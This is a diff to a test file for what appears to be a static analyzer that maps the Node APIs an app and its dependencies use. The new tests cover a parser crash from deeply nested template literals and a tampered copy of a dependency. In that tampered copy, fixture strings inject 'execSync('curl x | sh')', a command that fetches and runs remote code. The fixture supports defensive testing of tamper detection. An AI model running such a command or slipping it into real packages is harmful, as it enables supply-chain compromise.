@@ -244,13 +244,30 @@ describe('analyzeNodeApp on hostile or generated input', () => {
     expect(r.apis.map((a) => a.api)).toContain('fs.*');
   });
 
+  it('contains a parser crash to the file that causes it, says where, and analyses the others', async () => {
+    const hostile = `x = 1;\ny = \`\${${'`${'.repeat(9000)}x${'}`'.repeat(9000)}}\`;\nrequire('dns');`;
+    const r = await analyzeNodeApp({
+      root: 'crash',
+      fs: memoryAppFs({
+        'index.js': "require('./deep'); require('./other');",
+        'deep.js': hostile,
+        'other.js': "require('child_process').execSync('id');",
+      }),
+    });
+    // Where the nesting is deepest: the innermost substitution.
+    expect(doubts(r)).toEqual([`unparsed deep.js:2:${hostile.split('\n')[1]!.lastIndexOf('${') + 1}`]);
+    expect(r.uncertainties[0]!.message).toMatch(/^does not parse: nested \d+ deep/);
+    // The unparsed file is widened: every built-in it names is used as a whole.
+    expect(r.apis.map((a) => `${a.at.file} ${a.api}`)).toEqual(['deep.js dns.*', 'other.js child_process.execSync']);
+  }, 60_000);
+
   it('reports when no entry point exists', async () => {
     const r = await analyzeNodeApp({ root: 'empty', fs: memoryAppFs({ 'README.md': 'hi' }) });
     expect(r.entryPoints).toEqual([]);
     expect(doubts(r)).toEqual(['missing-module package.json:1:1']);
   });
 
-  it('serves repeated analyses from the package cache without reading package files', async () => {
+  it('serves repeated analyses from the package cache without parsing package files', async () => {
     const cache = new MemoryPackageCache();
     const fs = diskAppFs(path.join(FIXTURES, 'exports-maps'));
     const first = await analyzeNodeApp({ root: 'x', fs }, { cache });
@@ -286,6 +303,38 @@ describe('analyzeNodeApp on hostile or generated input', () => {
       'node_modules/a/node_modules/dup/x.js fs.readFileSync',
       'node_modules/b/node_modules/dup/y.js fs.readFileSync',
     ]);
+  });
+
+  it('keeps a modified copy of a package version apart from the original (in memory and on disk)', async () => {
+    const original = { 'package.json': '{"name":"dup","version":"1.0.0"}', 'index.js': "module.exports = require('fs').readFileSync('x')" };
+    const files: Record<string, string> = {
+      'package.json': '{"name":"app","main":"index.js"}',
+      'index.js': "require('a'); require('b');",
+      'node_modules/a/package.json': '{"name":"a","version":"1.0.0"}',
+      'node_modules/a/index.js': "require('dup')",
+      'node_modules/b/package.json': '{"name":"b","version":"1.0.0"}',
+      'node_modules/b/index.js': "require('dup')",
+    };
+    for (const [f, text] of Object.entries(original)) {
+      files[`node_modules/a/node_modules/dup/${f}`] = text;
+      files[`node_modules/b/node_modules/dup/${f}`] = text;
+    }
+    files['node_modules/b/node_modules/dup/index.js'] += ";\nrequire('child_process').execSync('curl x | sh');";
+    const expected = [
+      'node_modules/a/node_modules/dup/index.js fs.readFileSync',
+      'node_modules/b/node_modules/dup/index.js fs.readFileSync',
+      'node_modules/b/node_modules/dup/index.js child_process.execSync',
+    ];
+    const cacheDir = await mkdtemp(path.join(tmpdir(), 'charter-node-cache-'));
+    tmp.push(cacheDir);
+    for (const cache of [new MemoryPackageCache(), new FsPackageCache(cacheDir), new FsPackageCache(cacheDir)]) {
+      const r = await analyzeNodeApp({ root: 'x', fs: memoryAppFs(files) }, { cache });
+      expect(r.apis.map((a) => `${a.at.file} ${a.api}`)).toEqual(expected);
+    }
+    // Warm, from disk: both variants of the file come from the one entry of dup@1.0.0.
+    const warm = await analyzeNodeApp({ root: 'x', fs: memoryAppFs(files) }, { cache: new FsPackageCache(cacheDir) });
+    expect(warm.stats).toMatchObject({ parsed: 1, fromCache: 4 });
+    expect(readdirSync(path.join(cacheDir, 'node-packages'))).toHaveLength(3);
   });
 
   // Facts go through JSON and the schema on disk: nothing may be lost or added on the way.
